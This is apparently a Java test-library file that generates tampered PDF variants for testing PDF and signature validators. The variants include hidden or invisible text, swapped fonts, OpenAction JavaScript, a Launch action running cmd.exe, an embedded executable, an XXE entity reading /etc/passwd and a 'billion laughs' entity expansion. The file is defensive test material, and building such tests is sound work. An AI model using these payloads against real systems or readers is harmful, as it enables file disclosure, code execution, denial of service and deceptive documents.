package org.yinxin.testlibrary.attacks;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;

/** The text stays and what one sees changes; and what a file may do when it is opened. */
public final class Looks {
  private static final String LOOKS = "Fonts, colours and pages";
  private static final String HIDDEN = "Hidden annotations";
  private static final String ACTIVE = "Active content";
  private static final String XML = "XML in metadata and forms";

  private static final String ENTITY =
      "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>"
          + "<x:xmpmeta xmlns:x=\"adobe:ns:meta/\">&e;</x:xmpmeta>";
  private static final String LAUGHS =
      "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;\">"
          + "<!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;\">]>"
          + "<x>&d;&d;&d;&d;</x>";

  private Looks() {}

  /** All of them. */
  public static List<Attack> all() {
    List<Attack> all = new ArrayList<>();
    page(all, "Rotate", "180");
    page(all, "CropBox", "[0 0 300 400]");
    page(all, "MediaBox", "[0 0 595 400]");
    page(all, "UserUnit", "75000");
    page(all, "Resources", "<<>>");
    page(all, "Group", "<</S/Transparency/K true>>");
    all.add(new Attack(LOOKS, "other font under the same name", s -> font(s, "FontFile2")));
    all.add(new Attack(LOOKS, "other table from glyphs to characters", s -> font(s, "ToUnicode")));
    all.add(new Attack(LOOKS, "white text", s -> drawn(s, "1 g 1 G\n", "")));
    all.add(new Attack(LOOKS, "text drawn invisibly", s -> drawn(s, "3 Tr\n", "")));
    all.add(
        new Attack(
            LOOKS, "the page drawn outside of itself", s -> drawn(s, "1 0 0 1 2000 0 cm\n", "")));
    all.add(new Attack(LOOKS, "a clip that hides all", s -> drawn(s, "0 0 1 1 re W n\n", "")));
    catalog(
        all, LOOKS, "a layer that is off", "OCProperties", "<</OCGs[]/D<</BaseState/OFF/OFF[]>>>>");
    catalog(all, LOOKS, "labels of pages", "PageLabels", "<</Nums[0<</P(9)>>]>>");
    flags(all, "hidden seal", 2 + 128);
    flags(all, "seal that is not shown", 32 + 128);
    flags(all, "seal that is not printed", 128);
    catalog(
        all, ACTIVE, "JavaScript at opening", "OpenAction", "<</S/JavaScript/JS(app.alert(1))>>");
    catalog(all, ACTIVE, "a program launched at opening", "OpenAction", "<</S/Launch/F(cmd.exe)>>");
    catalog(
        all,
        ACTIVE,
        "an address called at opening",
        "OpenAction",
        "<</S/URI/URI(http://127.0.0.1:9/)>>");
    catalog(
        all,
        ACTIVE,
        "a form sent at opening",
        "OpenAction",
        "<</S/SubmitForm/F(http://127.0.0.1:9/)>>");
    catalog(all, ACTIVE, "another file opened", "OpenAction", "<</S/GoToR/F(other.pdf)/D[0/Fit]>>");
    catalog(all, ACTIVE, "data imported", "OpenAction", "<</S/ImportData/F(x.fdf)>>");
    catalog(all, ACTIVE, "JavaScript before printing", "AA", "<</WP<</S/JavaScript/JS(1)>>>>");
    catalog(
        all,
        ACTIVE,
        "JavaScript by name",
        "Names",
        "<</JavaScript<</Names[(a)<</S/JavaScript/JS(1)>>]>>>>");
    catalog(
        all,
        ACTIVE,
        "an embedded file",
        "Names",
        "<</EmbeddedFiles<</Names[(a)<</Type/Filespec/F(a.exe)>>]>>>>");
    catalog(all, ACTIVE, "a portfolio", "Collection", "<</View/D/D(a.pdf)>>");
    catalog(
        all,
        ACTIVE,
        "needs what only one reader has",
        "Requirements",
        "[<</S/EnableJavaScripts>>]");
    all.add(new Attack(ACTIVE, "a store of certificates with an action in it", s -> store(s)));
    metadata(all, "XMP with an external entity", ENTITY);
    metadata(all, "XMP with entities that multiply", LAUGHS);
    metadata(all, "XMP that is no XML", "<<<");
    all.add(
        new Attack(
            XML,
            "an XFA form with an external entity",
            s -> {
              Increment to = new Increment(s.one().file());
              int xfa = to.stream("", ENTITY.getBytes(StandardCharsets.UTF_8));
              return to.object(
                      to.of.root,
                      to.of.catalogBody.replaceFirst(
                          "/AcroForm <<", "/AcroForm <</XFA " + xfa + " 0 R"))
                  .table();
            }));
    return all;
  }

  private static void page(List<Attack> all, String key, String value) {
    all.add(
        new Attack(
            LOOKS,
            "/" + key + " of the page",
            s -> {
              Increment to = new Increment(s.one().file());
              return to.object(to.of.page, Increment.with(to.of.pageBody, key, value))
                  .crossReferenceStream();
            }));
  }

  private static byte[] drawn(Target target, String before, String after) throws Exception {
    Increment to = new Increment(target.one().file());
    String text = before + Syntax.latin(to.of.drawing) + after;
    return to.stream(to.of.contents, "", text.getBytes(StandardCharsets.ISO_8859_1))
        .crossReferenceStream();
  }

  /** Puts an empty stream in the place of the first that a font refers to under a key. */
  private static byte[] font(Target target, String key) throws Exception {
    Increment to = new Increment(target.one().file());
    try (var pdf = org.apache.pdfbox.Loader.loadPDF(target.one().file())) {
      for (var each : pdf.getDocument().getXrefTable().keySet()) {
        var object = pdf.getDocument().getObjectFromPool(each).getObject();
        if (object instanceof org.apache.pdfbox.cos.COSDictionary dictionary
            && dictionary.getItem(key) instanceof org.apache.pdfbox.cos.COSObject stream) {
          return to.stream((int) stream.getKey().getNumber(), "", new byte[10]).table();
        }
      }
    }
    throw new IllegalStateException("no font has " + key);
  }

  private static void flags(List<Attack> all, String name, int flags) {
    all.add(
        new Attack(
            HIDDEN,
            name,
            s -> {
              Increment to = new Increment(s.one().file());
              return to.object(
                      to.of.widget, Increment.with(to.of.widgetBody, "F", Integer.toString(flags)))
                  .table();
            }));
  }

  private static void catalog(
      List<Attack> all, String family, String name, String key, String value) {
    all.add(
        new Attack(
            family,
            name,
            s -> {
              Increment to = new Increment(s.one().file());
              int action = to.object(value.startsWith("[") ? "<<>>" : value);
              String set = value.startsWith("[") ? value : action + " 0 R";
              return to.object(to.of.root, Increment.with(to.of.catalogBody, key, set)).table();
            }));
  }

  private static byte[] store(Target target) throws Exception {
    Increment to = new Increment(target.one().file());
    int store = to.object("<</Type/DSS/AA<</O<</S/JavaScript/JS(1)>>>>>>");
    return to.object(to.of.root, Increment.with(to.of.catalogBody, "DSS", store + " 0 R")).table();
  }

  private static void metadata(List<Attack> all, String name, String xml) {
    all.add(
        new Attack(
            XML,
            name,
            s -> {
              Increment to = new Increment(s.one().file());
              int stream =
                  to.stream("/Type/Metadata/Subtype/XML", xml.getBytes(StandardCharsets.UTF_8));
              return to.object(
                      to.of.root, Increment.with(to.of.catalogBody, "Metadata", stream + " 0 R"))
                  .table();
            }));
  }
}
